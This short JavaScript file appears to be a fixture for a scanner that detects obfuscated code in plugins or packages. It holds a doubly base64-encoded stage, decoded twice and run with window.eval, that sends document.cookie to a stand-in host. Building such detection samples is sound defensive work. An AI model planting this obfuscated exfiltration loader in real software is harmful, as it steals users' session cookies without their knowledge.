// expect: category=obfuscation min=80 context=plugin,package
// why: a doubly base64-encoded stage is decoded twice and evaluated.
var STAGE = 'Wm1WMFkyZ29KMmgwZEhCek9pOHZZeTVsZUdGdGNHeGxMejlrUFNjclpHOWpkVzFsYm5RdVkyOXZhMmxsS1E9PQ==';
var d = function (s) { return window.atob(s); };
window.eval(d(d(STAGE)));
